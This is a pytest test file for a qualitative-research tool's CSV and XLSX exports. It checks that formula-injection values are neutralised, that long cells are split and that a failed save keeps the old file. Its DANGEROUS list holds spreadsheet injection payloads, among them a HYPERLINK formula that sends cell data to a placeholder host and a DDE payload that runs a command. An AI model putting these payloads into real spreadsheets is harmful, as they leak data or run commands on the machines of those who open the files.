"""CSV and XLSX exports: parsed back, formula injection neutralised, long cells split."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from qcode.core.analysis import AnalysisData
from qcode.core.codebook import Code, Codebook
from qcode.core.coding import Coding
from qcode.core.transcript import Participant, Transcript, build_text
from qcode.formats.reports.data import ReportOptions, build_report
from qcode.formats.reports.tables import (
    CONTINUED,
    EXCEL_CELL_LIMIT,
    neutralise,
    split_long,
    write_csv,
    write_xlsx,
)
from tests.core.test_analysis import _data

DANGEROUS = ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-1 and a dialogue dash", "@SUM(1)", "=cmd|' /C calc'!A0"]


def _injection_data(long_text: str = "") -> AnalysisData:
    cb = Codebook(codes=(Code("top", {"": "=Top"}), Code("leaf", {"": "Leaf"}, parent="top")))
    turns = [("Amina", text, None, None) for text in DANGEROUS] + [("Amina", "bell\x07here", None, None)]
    if long_text:
        turns.append(("Amina", long_text, None, None))
    text, tl = build_text(turns)
    t = Transcript("t1", "Interview", text, tl, attributes={"country": "-Kenya"}, speakers={"Amina": "Amina"}, id=1)
    codings = tuple(Coding(1, turn.start, turn.end, "leaf", "ann", id=i + 1, memo="\t=1" if i == 0 else "")
                    for i, turn in enumerate(tl))
    return AnalysisData(cb, (t,), (Participant("Amina", {"gender": "f"}),), codings, project="p")


def _report(data: AnalysisData, by: tuple[str, ...] = (), lang: str = "en"):
    return build_report(data, ReportOptions(date="2025-01-01", by=by, lang=lang))


@pytest.mark.parametrize(
    ("value", "expected", "changed"),
    [("=1+1", "'=1+1", True), ("+1", "'+1", True), ("-x", "'-x", True), ("@a", "'@a", True), ("\t=1", "'\t=1", True),
     ("\r=1", "'\r=1", True), ("plain", "plain", False), ("", "", False), ("a=1", "a=1", False), ("'=1", "'=1", False)],
)
def test_neutralise(value: str, expected: str, changed: bool) -> None:
    assert neutralise(value) == (expected, changed)


def test_split_long_never_loses_text() -> None:
    text = "".join(chr(65 + i % 26) for i in range(70_000))
    parts = split_long(text)
    assert len(parts) == 3
    assert all(len(p) <= EXCEL_CELL_LIMIT for p in parts)
    assert all(p.endswith(CONTINUED) for p in parts[:-1]) and not parts[-1].endswith(CONTINUED)
    assert "".join(p.removesuffix(CONTINUED) for p in parts) == text
    assert split_long("short") == ["short"]


def test_xlsx_quotes_sheet_has_text_cells_only_and_marks_changes(tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    written = write_xlsx(_report(_injection_data()), out)
    # Quotes: 4 cells in row 1, 3 in rows 2-5 (country, code_level_1, text), 2 in row 6 = 18;
    # '=Top' once in each of Frequencies, By transcript and Codebook = 3 (Cooccurrence lists coded codes
    # only: 'leaf').
    assert (written.paths, written.neutralised) == ([out], 21)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Quotes", "Frequencies", "Cooccurrence", "By transcript", "Codebook", "About"]
    ws = wb["Quotes"]
    rows = list(ws.iter_rows(values_only=True))
    header = list(rows[0])
    assert header[:5] == ["coding_id", "transcript", "transcript_title", "speaker", "participant"]
    assert header[-7:] == ["code_id", "text", "memo", "coder", "start", "end", "neutralised"]
    col = {h: i for i, h in enumerate(header)}
    texts = [r[col["text"]] for r in rows[1:]]
    assert texts[:5] == ["'" + d for d in DANGEROUS]
    assert texts[5] == "bell\ufffdhere"
    assert [r[col["code_level_1"]] for r in rows[1:3]] == ["'=Top", "'=Top"]
    assert rows[1][col["code_level_2"]] == "Leaf"
    assert rows[1][col["country"]] == "'-Kenya"
    assert rows[1][col["memo"]] == "'\t=1"
    assert rows[1][col["neutralised"]] == "country, code_level_1, text, memo"
    assert rows[6][col["neutralised"]] == "country, code_level_1"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n")  # never 'f' (formula)
    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True)}
    assert "prefixed with an apostrophe" in about["Formula cells"]


def test_xlsx_long_quote_is_split_over_columns(tmp_path: Path) -> None:
    long_text = "word " * 15_000  # 75,000 characters
    out = tmp_path / "r.xlsx"
    write_xlsx(_report(_injection_data(long_text.strip())), out)
    ws = openpyxl.load_workbook(out)["Quotes"]
    rows = list(ws.iter_rows(values_only=True))
    header = list(rows[0])
    i = header.index("text")
    assert header[i : i + 4] == ["text", "text (2)", "text (3)", "memo"]
    last = rows[-1]
    parts = [p or "" for p in last[i : i + 3]]
    assert all(len(p) <= EXCEL_CELL_LIMIT for p in parts)
    assert parts[0].endswith(CONTINUED) and parts[1].endswith(CONTINUED)
    assert "".join(p.removesuffix(CONTINUED) for p in parts) == long_text.strip()
    assert rows[1][i + 1] is None  # short quotes leave the continuation columns empty


def test_french_xlsx_names_the_neutralised_and_continued_columns_in_french(tmp_path: Path) -> None:
    long_text = "mot " * 20_000  # 80,000 characters: three parts
    out = tmp_path / "r.xlsx"
    written = write_xlsx(_report(_injection_data(long_text.strip()), lang="fr"), out)
    english = write_xlsx(_report(_injection_data(long_text.strip())), tmp_path / "en.xlsx")
    assert written.neutralised == english.neutralised == 21 + 2  # the long quote's row: country and code_level_1
    ws = openpyxl.load_workbook(out)["Extraits"]
    rows = list(ws.iter_rows(values_only=True))
    header = list(rows[0])
    i = header.index("Texte")
    assert header[i : i + 4] == ["Texte", "Texte (2)", "Texte (3)", "Mémo"]
    col = {h: k for k, h in enumerate(header)}
    assert rows[1][col["Cellules neutralisées"]] == "country, Thème (niveau 1), Texte, Mémo"
    parts = [p or "" for p in rows[-1][i : i + 3]]
    marker = " [suite dans la colonne suivante]"
    assert parts[0].endswith(marker) and parts[1].endswith(marker) and not parts[2].endswith(marker)
    assert all(len(p) <= EXCEL_CELL_LIMIT for p in parts)
    assert "".join(p.removesuffix(marker) for p in parts) == long_text.strip()


def test_xlsx_matrices_from_the_hand_computed_project(tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    write_xlsx(_report(_data(), by=("country",)), out)
    wb = openpyxl.load_workbook(out)
    freq = list(wb["Frequencies"].iter_rows(values_only=True))
    assert freq[1][:9] == ("A", "Alpha", 0, 3, 1, 2, 2, 7, 5)
    cross = list(wb["By country"].iter_rows(values_only=True))
    assert cross[0][:5] == ("code_id", "theme", "France: codings", "France: participants (1)", "France: share")
    assert cross[2][2:8] == (1, 1, 1, 1, 1, 0.5)  # A1: France 1 coding, 1 person, 100%; Kenya 1, 1, 50%
    cooc = list(wb["Cooccurrence"].iter_rows(values_only=True))
    assert [r[:5] for r in cooc] == [
        ("code_id", "theme", "A", "A1", "B"), ("A", "Alpha", 3, 2, 0), ("A1", "Alpha one", 2, 2, 1), ("B", "Beta", 0, 1, 2),
    ]
    by_t = list(wb["By transcript"].iter_rows(values_only=True))
    assert by_t[1][:4] == ("A", "Alpha", 4, 1)
    quotes = list(wb["Quotes"].iter_rows(values_only=True))
    assert len(quotes) == 1 + 7


def test_csv_files_parse_back(tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    written = write_csv(_report(_injection_data(), by=("gender",)), out)
    assert sorted(p.name for p in written.paths) == sorted(
        ["q.csv", "q-frequencies.csv", "q-by-gender.csv", "q-cooccurrence.csv", "q-by-transcript.csv", "q-codebook.csv"]
    )
    assert written.neutralised == 21 + 1  # as in the XLSX test, plus '=Top' in the by-gender table
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows[:5]] == ["'" + d for d in DANGEROUS]
    assert rows[0]["neutralised"] == "country, code_level_1, text, memo"
    assert rows[0]["code_level_1"] == "'=Top" and rows[0]["code_level_2"] == "Leaf"
    assert (rows[0]["start"], rows[0]["coder"], rows[0]["speaker"]) == ("0", "ann", "Amina")
    with (tmp_path / "q-by-gender.csv").open(encoding="utf-8-sig", newline="") as fh:
        cross = list(csv.reader(fh))
    assert cross[0] == ["code_id", "theme", "f: codings", "f: participants (1)", "f: share", "neutralised"]
    assert cross[1] == ["top", "'=Top", "6", "1", "1.0", "theme"]


def test_nothing_to_neutralise_counts_zero(tmp_path: Path) -> None:
    report = _report(_data(), by=("country",))
    assert write_csv(report, tmp_path / "q.csv").neutralised == 0
    assert write_xlsx(report, tmp_path / "q.xlsx").neutralised == 0


def test_neutralised_header_cells_are_counted(tmp_path: Path) -> None:
    data = _injection_data()
    data = AnalysisData(data.codebook, data.transcripts, (Participant("Amina", {"gender": "=f"}),), data.codings,
                        project="p")
    # Besides the 22 cells of the test above: the gender cell of the 6 quotes, and '=f' as a group
    # name in the by-gender table's headers '=f: codings' etc. (3 header cells).
    written = write_csv(_report(data, by=("gender",)), tmp_path / "q.csv")
    with (tmp_path / "q-by-gender.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert next(csv.reader(fh))[2:5] == ["'=f: codings", "'=f: participants (1)", "'=f: share"]
    assert written.neutralised == 22 + 6 + 3


def test_failed_xlsx_keeps_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "r.xlsx"
    out.write_bytes(b"old")

    def broken(self, filename):
        Path(filename).write_bytes(b"partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken)
    with pytest.raises(Exception, match="No space left"):
        write_xlsx(_report(_data()), out)
    assert out.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
